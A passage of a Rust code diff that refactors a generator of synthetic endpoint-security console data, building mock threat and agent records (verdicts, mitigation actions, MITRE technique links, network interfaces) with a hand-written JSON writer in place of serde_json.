+        let sha256 = self.rng.chance(40).then(|| self.rng.hex(64));
+        let md5 = self.rng.chance(30).then(|| self.rng.hex(32));
+        let sha1 = self.rng.hex(40);
+        let storyline = self.rng.hex(16).to_uppercase();
+        let collection_id = self.next_id();
         let signed = self.rng.chance(15);
-        let describe = |s: &str| -> &'static str {
-            match s {
-                "undefined" => "Undefined",
-                "true_positive" => "True positive",
-                "false_positive" => "False positive",
-                "suspicious" => "Suspicious",
-                "unresolved" => "Unresolved",
-                "in_progress" => "In progress",
-                "resolved" => "Resolved",
-                "mitigated" => "Mitigated",
-                "not_mitigated" => "Not mitigated",
-                "marked_as_benign" => "Marked as benign",
-                _ => "",
-            }
-        };
         let (initiated, initiated_desc) = *self.rng.weighted(&[
             (("agent_policy", "Agent Policy"), 85),
             (("full_disk_scan", "Full Disk Scan"), 8),
@@ -1002,155 +1212,318 @@ impl Generator {
         if self.rng.chance(30) {
             whitening.push("file_type");
         }
-        json!({
-            "agentDetectionInfo": {
-                "accountId": a("accountId"),
-                "accountName": a("accountName"),
-                "agentDetectionState": null,
-                "agentDomain": a("domain"),
-                "agentIpV4": ipv4,
-                "agentIpV6": ipv6,
-                "agentLastLoggedInUpn": null,
-                "agentLastLoggedInUserMail": null,
-                "agentLastLoggedInUserName": a("lastLoggedInUserName"),
-                "agentMitigationMode": a("mitigationMode"),
-                "agentOsName": a("osName"),
-                "agentOsRevision": a("osRevision"),
-                "agentRegisteredAt": a("registeredAt"),
-                "agentUuid": a("uuid"),
-                "agentVersion": a("agentVersion"),
-                "cloudProviders": {},
-                "externalIp": a("externalIp"),
-                "groupId": a("groupId"),
-                "groupName": a("groupName"),
-                "siteId": a("siteId"),
-                "siteName": a("siteName"),
-            },
-            "agentRealtimeInfo": {
-                "accountId": a("accountId"),
-                "accountName": a("accountName"),
-                "activeThreats": a("activeThreats"),
-                "agentComputerName": a("computerName"),
-                "agentDecommissionedAt": decommissioned_at,
-                "agentDomain": a("domain"),
-                "agentId": a("id"),
-                "agentInfected": a("infected"),
-                "agentIsActive": a("isActive"),
-                "agentIsDecommissioned": crate::records::lenient_bool(agent.get("isDecommissioned")),
-                "agentMachineType": a("machineType"),
-                "agentMitigationMode": a("mitigationMode"),
-                "agentNetworkStatus": a("networkStatus"),
-                "agentOsName": a("osName"),
-                "agentOsRevision": a("osRevision"),
-                "agentOsType": a("osType"),
-                "agentUuid": a("uuid"),
-                "agentVersion": a("agentVersion"),
-                "groupId": a("groupId"),
-                "groupName": a("groupName"),
-                "networkInterfaces": nics,
-                "operationalState": a("operationalState"),
-                "rebootRequired": false,
-                "scanAbortedAt": a("scanAbortedAt"),
-                "scanFinishedAt": a("scanFinishedAt"),
-                "scanStartedAt": a("scanStartedAt"),
-                "scanStatus": a("scanStatus"),
-                "siteId": a("siteId"),
-                "siteName": a("siteName"),
-                "storageName": null,
-                "storageType": null,
-                "userActionsNeeded": a("userActionsNeeded"),
-            },
-            "containerInfo": {"id": null, "image": null, "labels": null, "name": null},
-            "id": id,
-            "indicators": indicators,
-            "kubernetesInfo": {
-                "cluster": null, "controllerKind": null, "controllerLabels": null, "controllerName": null,
-                "namespace": null, "namespaceLabels": null, "node": null, "pod": null, "podLabels": null
-            },
-            "mitigationStatus": mitigations,
-            "threatInfo": {
-                "analystVerdict": verdict,
-                "analystVerdictDescription": describe(verdict),
-                "automaticallyResolved": incident == "resolved" && self.rng.chance(30),
-                "browserType": null,
-                "certificateId": if signed { "SIGNER-CN=Some Vendor Ltd" } else { "" },
-                "classification": classification,
-                "classificationSource": if dynamic { "Behavioral" } else { *self.rng.pick(&["Cloud", "Static", "Engine"]) },
-                "cloudFilesHashVerdict": if verdict == "false_positive" { "provider_unknown" } else { "black" },
-                "collectionId": self.next_id(),
-                "confidenceLevel": confidence,
-                "createdAt": fmt_micros(created),
-                "detectionEngines": engines.iter().map(|(k, t)| json!({"key": k, "title": t})).collect::<Vec<_>>(),
-                "detectionType": if dynamic { "dynamic" } else { "static" },
-                "engines": engines.iter().map(|(_, t)| *t).collect::<Vec<_>>(),
-                "externalTicketExists": false,
-                "externalTicketId": null,
-                "failedActions": self.rng.permille(15),
-                "fileExtension": ext,
-                "fileExtensionType": ext_type,
-                "filePath": path,
-                "fileSize": 1024 + self.rng.below(8_000_000),
-                "fileVerificationType": if signed { "SignedVerified" } else { "NotSigned" },
-                "identifiedAt": fmt_micros(identified),
-                "incidentStatus": incident,
-                "incidentStatusDescription": describe(incident),
-                "initiatedBy": initiated,
-                "initiatedByDescription": initiated_desc,
-                "initiatingUserId": null,
-                "initiatingUsername": null,
-                "isFileless": dynamic && ext == "PS1" && self.rng.chance(30),
-                "isValidCertificate": signed,
-                "maliciousProcessArguments": args,
-                "md5": md5,
-                "mitigatedPreemptively": mitigation == "mitigated" && self.rng.chance(20),
-                "mitigationStatus": mitigation,
-                "mitigationStatusDescription": describe(mitigation),
-                "originatorProcess": originator,
-                "pendingActions": false,
-                "processUser": process_user,
-                "publisherName": if signed { "Some Vendor Ltd" } else { "" },
-                "reachedEventsLimit": false,
-                "rebootRequired": false,
-                "sha1": self.rng.hex(40),
-                "sha256": sha256,
-                "storyline": self.rng.hex(16).to_uppercase(),
-                "threatId": id,
-                "threatName": file,
-                "updatedAt": fmt_micros(updated),
-            },
-            "whiteningOptions": whitening,
-        })
+        let auto_resolved = incident == "resolved" && self.rng.chance(30);
+        let failed_actions = self.rng.permille(15);
+        let file_size = 1024 + self.rng.below(8_000_000);
+        let fileless = dynamic && ext == "PS1" && self.rng.chance(30);
+        let preemptive = mitigation == "mitigated" && self.rng.chance(20);
+        let first_nic = agent.nics.first();
+
+        let mut out = String::with_capacity(4096);
+        let mut o = Obj::new(&mut out);
+        o.obj("agentDetectionInfo", |d| {
+            d.s("accountId", &agent.account_id)
+                .s("accountName", &agent.account_name)
+                .null("agentDetectionState")
+                .s("agentDomain", &agent.domain)
+                .opt_s(
+                    "agentIpV4",
+                    first_nic.and_then(|n| n.2.first()).map(String::as_str),
+                )
+                .opt_s(
+                    "agentIpV6",
+                    first_nic.and_then(|n| n.3.first()).map(String::as_str),
+                )
+                .null("agentLastLoggedInUpn")
+                .null("agentLastLoggedInUserMail")
+                .s("agentLastLoggedInUserName", &agent.last_user)
+                .s("agentMitigationMode", &agent.mitigation_mode)
+                .s("agentOsName", &agent.os_name)
+                .s("agentOsRevision", &agent.os_revision)
+                .s("agentRegisteredAt", &agent.registered)
+                .s("agentUuid", &agent.uuid)
+                .s("agentVersion", &agent.version)
+                .raw("cloudProviders", "{}")
+                .opt_s("externalIp", agent.external_ip.as_deref())
+                .s("groupId", &agent.group_id)
+                .s("groupName", &agent.group_name)
+                .s("siteId", &agent.site_id)
+                .s("siteName", &agent.site_name);
+        });
+        o.obj("agentRealtimeInfo", |r| {
+            r.s("accountId", &agent.account_id)
+                .s("accountName", &agent.account_name)
+                .n("activeThreats", agent.active_threats)
+                .s("agentComputerName", &agent.computer_name);
+            match &agent.decommissioned_at {
+                None => r.null("agentDecommissionedAt"),
+                Some(Ok(b)) => r.b("agentDecommissionedAt", *b),
+                Some(Err(ts)) => r.s("agentDecommissionedAt", ts),
+            };
+            r.s("agentDomain", &agent.domain)
+                .s("agentId", &agent.id)
+                .b("agentInfected", agent.infected)
+                .b("agentIsActive", agent.active)
+                .b("agentIsDecommissioned", agent.decommissioned)
+                .s("agentMachineType", &agent.machine)
+                .s("agentMitigationMode", &agent.mitigation_mode)
+                .s("agentNetworkStatus", &agent.network_status)
+                .s("agentOsName", &agent.os_name)
+                .s("agentOsRevision", &agent.os_revision)
+                .s("agentOsType", &agent.os_type)
+                .s("agentUuid", &agent.uuid)
+                .s("agentVersion", &agent.version)
+                .s("groupId", &agent.group_id)
+                .s("groupName", &agent.group_name)
+                .arr("networkInterfaces", |a| {
+                    for (nid, name, inet, inet6, physical) in &agent.nics {
+                        a.obj(|n| {
+                            n.s("id", nid)
+                                .arr("inet", |x| {
+                                    for i in inet {
+                                        x.s(i);
+                                    }
+                                })
+                                .arr("inet6", |x| {
+                                    for i in inet6 {
+                                        x.s(i);
+                                    }
+                                })
+                                .s("name", name)
+                                .s("physical", physical);
+                        });
+                    }
+                })
+                .s("operationalState", &agent.operational_state)
+                .b("rebootRequired", false)
+                .null("scanAbortedAt")
+                .opt_s("scanFinishedAt", agent.scan_finished.as_deref())
+                .opt_s("scanStartedAt", agent.scan_started.as_deref())
+                .s("scanStatus", &agent.scan_status)
+                .s("siteId", &agent.site_id)
+                .s("siteName", &agent.site_name)
+                .null("storageName")
+                .null("storageType")
+                .arr("userActionsNeeded", |a| {
+                    for u in &agent.user_actions {
+                        a.s(u);
+                    }
+                });
+        });
+        o.obj("containerInfo", |c| {
+            c.null("id").null("image").null("labels").null("name");
+        });
+        o.s("id", &id);
+        o.arr("indicators", |a| {
+            if static_indicator {
+                a.obj(|i| {
+                    i.s("category", "General")
+                        .s("description", "Detected by the Static Engine")
+                        .raw("ids", "[43]")
+                        .raw("tactics", "[]");
+                });
+            }
+            for (category, description, ind_id, tactics) in &indicators {
+                a.obj(|i| {
+                    i.s("category", category)
+                        .s("description", description)
+                        .arr("ids", |x| {
+                            x.n(*ind_id);
+                        })
+                        .arr("tactics", |x| {
+                            for (name, techniques) in tactics {
+                                x.obj(|t| {
+                                    t.s("name", name)
+                                        .s("source", "MITRE")
+                                        .arr("techniques", |y| {
+                                            for tech in techniques {
+                                                y.obj(|z| {
+                                                    z.s(
+                                                        "link",
+                                                        &format!(
+                                                        "https://attack.mitre.org/techniques/{}/",
+                                                        tech.replace('.', "/")
+                                                    ),
+                                                    )
+                                                    .s("name", tech);
+                                                });
+                                            }
+                                        });
+                                });
+                            }
+                        });
+                });
+            }
+        });
+        o.obj("kubernetesInfo", |k| {
+            for f in [
+                "cluster",
+                "controllerKind",
+                "controllerLabels",
+                "controllerName",
+                "namespace",
+                "namespaceLabels",
+                "node",
+                "pod",
+                "podLabels",
+            ] {
+                k.null(f);
+            }
+        });
+        o.arr("mitigationStatus", |a| {
+            for m in &mitigations {
+                a.obj(|x| {
+                    x.s("action", m.action);
+                    match m.counters {
+                        true => x.raw(
+                            "actionsCounters",
+                            r#"{"failed":0,"notFound":0,"pendingReboot":0,"success":1,"total":1}"#,
+                        ),
+                        false => x.null("actionsCounters"),
+                    };
+                    x.b("agentSupportsReport", true)
+                        .b("groupNotFound", false)
+                        .ts("lastUpdate", m.ended + 100)
+                        .opt_s(
+                            "latestReport",
+                            m.counters.then_some("/threats/mitigation-report"),
+                        )
+                        .ts("mitigationEndedAt", m.ended)
+                        .ts("mitigationStartedAt", m.started)
+                        .s("status", "success");
+                });
+            }
+        });
+        o.obj("threatInfo", |t| {
+            t.s("analystVerdict", verdict)
+                .s("analystVerdictDescription", describe(verdict))
+                .b("automaticallyResolved", auto_resolved)
+                .null("browserType")
+                .s(
+                    "certificateId",
+                    if signed {
+                        "SIGNER-CN=Some Vendor Ltd"
+                    } else {
+                        ""
+                    },
+                )
+                .s("classification", classification)
+                .s("classificationSource", classification_source)
+                .s(
+                    "cloudFilesHashVerdict",
+                    if verdict == "false_positive" {
+                        "provider_unknown"
+                    } else {
+                        "black"
+                    },
+                )
+                .s("collectionId", &collection_id)
+                .s("confidenceLevel", confidence)
+                .ts("createdAt", created)
+                .arr("detectionEngines", |a| {
+                    for (k, title) in &engines {
+                        a.obj(|e| {
+                            e.s("key", k).s("title", title);
+                        });
+                    }
+                })
+                .s("detectionType", if dynamic { "dynamic" } else { "static" })
+                .arr("engines", |a| {
+                    for (_, title) in &engines {
+                        a.s(title);
+                    }
+                })
+                .b("externalTicketExists", false)
+                .null("externalTicketId")
+                .b("failedActions", failed_actions)
+                .s("fileExtension", ext)
+                .s("fileExtensionType", ext_type)
+                .s("filePath", &path)
+                .n("fileSize", file_size)
+                .s(
+                    "fileVerificationType",
+                    if signed {
+                        "SignedVerified"
+                    } else {
+                        "NotSigned"
+                    },
+                )
+                .ts("identifiedAt", identified)
+                .s("incidentStatus", incident)
+                .s("incidentStatusDescription", describe(incident))
+                .s("initiatedBy", initiated)
+                .s("initiatedByDescription", initiated_desc)
+                .null("initiatingUserId")
+                .null("initiatingUsername")
+                .b("isFileless", fileless)
+                .b("isValidCertificate", signed)
+                .opt_s("maliciousProcessArguments", args.as_deref())
+                .opt_s("md5", md5.as_deref())
+                .b("mitigatedPreemptively", preemptive)
+                .s("mitigationStatus", mitigation)
+                .s("mitigationStatusDescription", describe(mitigation))
+                .s("originatorProcess", originator)
+                .b("pendingActions", false)
+                .s("processUser", &process_user)
+                .s("publisherName", if signed { "Some Vendor Ltd" } else { "" })
+                .b("reachedEventsLimit", false)
+                .b("rebootRequired", false)
+                .s("sha1", &sha1)
+                .opt_s("sha256", sha256.as_deref())
+                .s("storyline", &storyline)
+                .s("threatId", &id)
+                .s("threatName", file)
+                .ts("updatedAt", updated);
+        });
+        o.str_arr("whiteningOptions", &whitening);
+        o.end();
+        ThreatRow {
+            id,
+            account_id: agent.account_id.clone(),
+            site_id: agent.site_id.clone(),
+            group_id: agent.group_id.clone(),
+            agent_id: agent.id.clone(),
+            analyst_verdict: verdict.to_owned(),
+            incident_status: incident.to_owned(),
+            confidence_level: confidence.to_owned(),
+            mitigation_status: mitigation.to_owned(),
+            created_us: created,
+            updated_us: updated,
+            json: Arc::from(out),
+        }
     }
 
-    fn indicators(&mut self) -> Vec<Value> {
+    #[allow(clippy::type_complexity)]
+    fn indicators(
+        &mut self,
+    ) -> Vec<(
+        &'static str,
+        &'static str,
+        u64,
+        Vec<(&'static str, Vec<&'static str>)>,
+    )> {
         let n = 1 + self.rng.below(4) as usize;
         (0..n)
             .map(|_| {
                 let (category, description, ind_id) = *self.rng.pick(INDICATORS);
                 let tactic_count = self.rng.below(3) as usize;
-                let tactics: Vec<Value> = (0..tactic_count)
+                let tactics = (0..tactic_count)
                     .map(|_| {
                         let (name, techniques) = *self.rng.pick(TACTICS);
                         let tech_count = 1 + self.rng.below(2) as usize;
-                        let techs: Vec<Value> = (0..tech_count)
-                            .map(|_| {
-                                let t = *self.rng.pick(techniques);
-                                json!({
-                                    "link": format!("https://attack.mitre.org/techniques/{}/", t.replace('.', "/")),
-                                    "name": t,
-                                })
-                            })
+                        let techs = (0..tech_count)
+                            .map(|_| *self.rng.pick(techniques))
                             .collect();
-                        json!({"name": name, "source": "MITRE", "techniques": techs})
+                        (name, techs)
                     })
                     .collect();
-                json!({"category": category, "description": description, "ids": [ind_id], "tactics": tactics})
+                (category, description, ind_id, tactics)
             })
             .collect()
     }
 
-    fn mitigation_actions(&mut self, mitigation: &str, created: Micros) -> Vec<Value> {
-        let actions: &[&str] = match mitigation {
+    fn mitigation_actions(&mut self, mitigation: &str, created: Micros) -> Vec<MitigationAction> {
+        let actions: &[&'static str] = match mitigation {
             "mitigated" => &["kill", "quarantine"],
             "marked_as_benign" => &["unquarantine"],
             _ if self.rng.chance(40) => &["kill"],
@@ -1163,22 +1536,12 @@ impl Generator {
                 let started = at;
                 let ended = started + self.rng.range(1, 500_000);
                 at = ended + self.rng.range(1_000, 10_000_000);
-                let counters = if self.rng.chance(50) {
-                    json!({"failed": 0, "notFound": 0, "pendingReboot": 0, "success": 1, "total": 1})
-                } else {
-                    Value::Null
-                };
-                json!({
-                    "action": action,
-                    "actionsCounters": counters,
-                    "agentSupportsReport": true,
-                    "groupNotFound": false,
-                    "lastUpdate": fmt_micros(ended + 100),
-                    "latestReport": if counters.is_null() { Value::Null } else { json!("/threats/mitigation-report") },
-                    "mitigationEndedAt": fmt_micros(ended),
-                    "mitigationStartedAt": fmt_micros(started),
-                    "status": "success",
-                })
+                MitigationAction {
+                    action,
+                    started,
+                    ended,
+                    counters: self.rng.chance(50),
+                }
             })
             .collect()
     }
@@ -1213,7 +1576,7 @@ impl Generator {
         let value = json!({
             "createdAt": fmt_micros(created),
             "creator": PEOPLE[who],
-            "creatorId": format!("{}", 900_000_000_000_000_000u64 + who as u64 * 1_000_003),
+            "creatorId": person_id(who),
             "filterId": filter_id,
             "filterName": if dynamic { json!(format!("{name} filter")) } else { Value::Null },
             "id": id,
@@ -1229,13 +1592,208 @@ impl Generator {
         });
         (
             GroupInfo {
-                id: value["id"].as_str().unwrap_or_default().to_owned(),
+                id,
                 name: name.to_owned(),
                 site,
                 ordinal,
             },
             value,
         )
+    }
+}
+
+struct MitigationAction {
+    action: &'static str,
+    started: Micros,
+    ended: Micros,
+    counters: bool,
+}
+
+fn person_id(who: usize) -> String {
+    (900_000_000_000_000_000u64 + who as u64 * 1_000_003).to_string()
+}
+
+fn write_tag(out: &mut String, t: &TagFacts) {
+    let mut o = Obj::new(out);
+    o.ts("assignedAt", t.at)
+        .s("assignedBy", t.by)
+        .s("assignedById", &t.by_id)
+        .s("id", &t.id)
+        .s("key", &t.key)
+        .s("value", &t.value);
+    o.end();
+}
+
+/// Writes an agent record. Legacy-shaped agents look like the 2021 console sample: no `tags`,
+/// `missingPermissions`, `detectionState`, `firstFullModeTime`, `storageName`/`storageType`, and
+/// `"True"`/`"False"` strings for `firewallEnabled`/`isUpToDate`.
+fn agent_row(a: &AgentFacts, active_threats: u64) -> AgentRow {
+    let mut out = String::with_capacity(2600);
+    let string_bool = |b: bool| if b { "\"True\"" } else { "\"False\"" };
+    let bool_text = |b: bool| if b { "true" } else { "false" };
+    let mut o = Obj::new(&mut out);
+    o.s("accountId", &a.site.account_id)
+        .s("accountName", &a.site.account_name)
+        .raw(
+            "activeDirectory",
+            r#"{"computerDistinguishedName":null,"computerMemberOf":[],"lastUserDistinguishedName":null,"lastUserMemberOf":[]}"#,
+        )
+        .n("activeThreats", active_threats)
+        .s("agentVersion", a.version)
+        .b("allowRemoteShell", a.remote_shell)
+        .s("appsVulnerabilityStatus", a.apps_vulnerability)
+        .raw("cloudProviders", "{}")
+        .s("computerName", &a.computer_name)
+        .s("consoleMigrationStatus", "N/A")
+        .n("coreCount", a.core_count)
+        .n("cpuCount", a.cpu_count)
+        .s("cpuId", a.cpu)
+        .ts("createdAt", a.created);
+    if !a.legacy {
+        o.null("detectionState");
+    }
+    o.s("domain", a.domain)
+        .b("encryptedApplications", false)
+        .opt_s("externalId", (!a.legacy).then_some(""))
+        .s("externalIp", &a.external_ip)
+        .raw(
+            "firewallEnabled",
+            if a.legacy {
+                string_bool(a.firewall)
+            } else {
+                bool_text(a.firewall)
+            },
+        );
+    if !a.legacy {
+        o.null("firstFullModeTime");
+    }
+    o.s("groupId", &a.group_id)
+        .s("groupIp", &format!("{}.x", a.site.egress_prefix))
+        .s("groupName", &a.group_name)
+        .s("id", &a.id)
+        .b("inRemoteShellSession", false)
+        .b("infected", active_threats > 0)
+        .s("installerType", a.installer)
+        .b("isActive", a.active)
+        .b("isDecommissioned", a.decommissioned)
+        .b("isPendingUninstall", false)
+        .b("isUninstalled", a.uninstalled)
+        .raw(
+            "isUpToDate",
+            if a.legacy {
+                string_bool(a.up_to_date)
+            } else {
+                bool_text(a.up_to_date)
+            },
+        )
+        .ts("lastActiveDate", a.last_active)
+        .opt_s("lastIpToMgmt", a.last_ip_to_mgmt.as_deref())
+        .s("lastLoggedInUserName", &a.last_user)
+        .s("licenseKey", "")
+        .b("locationEnabled", a.machine == "laptop")
+        .s(
+            "locationType",
+            if a.machine == "laptop" {
+                "fallback"
+            } else {
+                "not_applicable"
+            },
+        )
+        .null("locations")
+        .s("machineType", a.machine);
+    if !a.legacy {
+        o.str_arr(
+            "missingPermissions",
+            if a.missing_fda {
+                &["user_action_needed_fda"]
+            } else {
+                &[]
+            },
+        );
+    }
+    o.s("mitigationMode", a.mitigation_mode)
+        .s("mitigationModeSuspicious", a.mitigation_mode_suspicious)
+        .s("modelName", a.model)
+        .arr("networkInterfaces", |arr| {
+            for n in &a.nics {
+                arr.obj(|x| {
+                    let (gw, gw_mac) = match &n.gateway {
+                        Some((g, m)) => (Some(g.as_str()), Some(m.as_str())),
+                        None => (None, None),
+                    };
+                    x.opt_s("gatewayIp", gw)
+                        .opt_s("gatewayMacAddress", gw_mac)
+                        .s("id", &n.id)
+                        .str_arr("inet", &[&n.inet])
+                        .str_arr("inet6", &[&n.inet6])
+                        .s("name", &n.name)
+                        .s("physical", &n.physical);
+                });
+            }
+        })
+        .b("networkQuarantineEnabled", a.quarantined)
+        .s("networkStatus", a.network_status)
+        .s("operationalState", "na")
+        .null("operationalStateExpiration")
+        .s("osArch", a.arch)
+        .s("osName", a.os_name)
+        .s("osRevision", &a.os_revision)
+        .s("osStartTime", &fmt_seconds(a.os_start))
+        .s("osType", a.os_type)
+        .null("osUsername")
+        .s("rangerStatus", a.ranger_status)
+        .opt_s("rangerVersion", (!a.legacy).then_some("23.4.1.3"))
+        .ts("registeredAt", a.registered)
+        .s("remoteProfilingState", "disabled")
+        .null("remoteProfilingStateExpiration")
+        .null("scanAbortedAt")
+        .opt_ts("scanFinishedAt", a.scan.map(|(_, e)| e))
+        .opt_ts("scanStartedAt", a.scan.map(|(s, _)| s))
+        .s(
+            "scanStatus",
+            if a.scan.is_some() { "finished" } else { "none" },
+        )
+        .s("siteId", &a.site.id)
+        .s("siteName", &a.site.name);
+    if !a.legacy {
+        o.null("storageName").null("storageType").obj("tags", |t| {
+            t.arr("sentinelone", |arr| {
+                for tag in &a.tags {
+                    arr.obj(|x| {
+                        x.ts("assignedAt", tag.at)
+                            .s("assignedBy", tag.by)
+                            .s("assignedById", &tag.by_id)
+                            .s("id", &tag.id)
+                            .s("key", &tag.key)
+                            .s("value", &tag.value);
+                    });
+                }
+            });
+        });
+    }
+    o.b("threatRebootRequired", false)
+        .n("totalMemory", a.memory)
+        .ts("updatedAt", a.updated)
+        .str_arr(
+            "userActionsNeeded",
+            if a.reboot_needed {
+                &["reboot_needed"]
+            } else {
+                &[]
+            },
+        )
+        .s("uuid", &a.uuid);
+    o.end();
+    AgentRow {
+        id: a.id.clone(),
+        account_id: a.site.account_id.clone(),
+        site_id: a.site.id.clone(),
+        group_id: a.group_id.clone(),
+        computer_name: a.computer_name.clone(),
+        decommissioned: a.decommissioned,
+        created_us: a.created,
+        updated_us: a.updated,
+        json: Arc::from(out),
     }
 }
 
@@ -1297,24 +1855,17 @@ pub(crate) fn generate(spec: &TenantSpec) -> Generated {
         }
     }
 
-    let mut agents: Vec<Value> = Vec::with_capacity(spec.agents);
-    let mut names: Vec<String> = Vec::with_capacity(spec.agents);
-    for _ in 0..spec.agents {
+    let mut facts: Vec<AgentFacts> = Vec::with_capacity(spec.agents);
+    for i in 0..spec.agents {
         let created = g.rng.range(start + 30 * DAY_US, end - DAY_US);
         let updated = g.rng.range(created, end);
-        let reuse = if !names.is_empty() && g.rng.permille(spec.duplicate_name_permille) {
-            Some(names[g.rng.below(names.len() as u64) as usize].clone())
+        let reuse = if i > 0 && g.rng.permille(spec.duplicate_name_permille) {
+            // A re-imaged machine: same host name, new agent id.
+            Some(facts[g.rng.below(i as u64) as usize].computer_name.clone())
         } else {
             None
         };
-        let agent = g.agent(created, updated, reuse);
-        names.push(
-            agent["computerName"]
-                .as_str()
-                .unwrap_or_default()
-                .to_owned(),
-        );
-        agents.push(agent);
+        facts.push(g.agent_facts(created, updated, reuse));
     }
 
     // Agents that existed when their threats fired but have since been removed from the console.
@@ -1323,61 +1874,65 @@ pub(crate) fn generate(spec: &TenantSpec) -> Generated {
     } else {
         spec.threats * spec.orphan_threat_permille as usize / 1000
     };
-    let ghosts: Vec<Value> = (0..orphan_threats.div_ceil(5).min(spec.agents.max(1)))
+    let ghosts: Vec<ThreatAgent> = (0..orphan_threats.div_ceil(5).min(spec.agents))
         .map(|_| {
             let created = g.rng.range(start + 30 * DAY_US, end - 30 * DAY_US);
-            g.agent(created, created + DAY_US, None)
+            ThreatAgent::from_facts(&g.agent_facts(created, created + DAY_US, None))
         })
         .collect();
 
-    let mut threats = Vec::with_capacity(spec.threats);
-    let mut threat_agent: Vec<Option<usize>> = Vec::with_capacity(spec.threats);
-    if !agents.is_empty() {
+    // Plan every threat first, so each agent's activeThreats is known before anything is written.
+    let mut plans: Vec<(Option<usize>, ThreatPlan)> = Vec::with_capacity(spec.threats);
+    if !facts.is_empty() {
         for i in 0..spec.threats {
-            let (agent, idx) = if i < orphan_threats && !ghosts.is_empty() {
-                (&ghosts[i % ghosts.len()], None)
+            let idx = if i < orphan_threats && !ghosts.is_empty() {
+                None
             } else {
                 // Skewed: a few machines collect many threats, as in real fleets.
                 let r = g.rng.below(1 << 20) as f64 / f64::from(1 << 20);
-                let idx = ((r * r) * agents.len() as f64) as usize % agents.len();
-                (&agents[idx], Some(idx))
+                Some(((r * r) * facts.len() as f64) as usize % facts.len())
             };
-            let agent_created =
-                crate::util::parse_timestamp(agent["createdAt"].as_str().unwrap_or_default())
-                    .unwrap_or(start);
-            let created = g.rng.range(agent_created, end - HOUR_US);
-            let updated = (created + g.rng.range(1_000, 30 * DAY_US)).min(end);
-            threats.push(g.threat(agent, created, updated));
-            threat_agent.push(idx);
+            let agent_created = idx.map_or(start, |i| facts[i].created);
+            let ghost_created = idx.is_none().then(|| ghosts[i % ghosts.len()].created);
+            plans.push((
+                idx,
+                g.plan_threat(ghost_created.unwrap_or(agent_created), start, end - HOUR_US),
+            ));
         }
     }
-
-    // Now that every threat exists, give each agent its activeThreats/infected and copy them into
-    // the threats' agentRealtimeInfo so both views agree.
-    let mut active = vec![0u64; agents.len()];
-    for (t, idx) in threats.iter().zip(&threat_agent) {
+    let mut active = vec![0u64; facts.len()];
+    for (idx, plan) in &plans {
         if let Some(i) = idx {
-            if t["threatInfo"]["incidentStatus"] != "resolved" {
+            if plan.incident != "resolved" {
                 active[*i] += 1;
             }
         }
     }
-    for (agent, n) in agents.iter_mut().zip(&active) {
-        agent["activeThreats"] = json!(n);
-        agent["infected"] = json!(*n > 0);
+    let mut views: Vec<ThreatAgent> = facts.iter().map(ThreatAgent::from_facts).collect();
+    for (v, n) in views.iter_mut().zip(&active) {
+        v.active_threats = *n;
+        v.infected = *n > 0;
     }
-    for (t, idx) in threats.iter_mut().zip(&threat_agent) {
-        if let Some(i) = idx {
-            t["agentRealtimeInfo"]["activeThreats"] = json!(active[*i]);
-            t["agentRealtimeInfo"]["agentInfected"] = json!(active[*i] > 0);
-        }
-    }
+    let threats: Vec<ThreatRow> = plans
+        .iter()
+        .enumerate()
+        .map(|(i, (idx, plan))| {
+            let agent = match idx {
+                Some(a) => &views[*a],
+                None => &ghosts[i % ghosts.len()],
+            };
+            g.threat_row(agent, *plan)
+        })
+        .collect();
+    let agents: Vec<AgentRow> = facts
+        .iter()
+        .zip(&active)
+        .map(|(f, n)| agent_row(f, *n))
+        .collect();
 
-    let mut per_group: HashMap<String, u64> = HashMap::new();
+    let mut per_group: HashMap<&str, u64> = HashMap::new();
     for a in &agents {
-        if let Some(gid) = a["groupId"].as_str() {
-            *per_group.entry(gid.to_owned()).or_default() += 1;
-        }
+        *per_group.entry(a.group_id.as_str()).or_default() += 1;
     }
     for grp in &mut groups {
         let n = grp["id"]
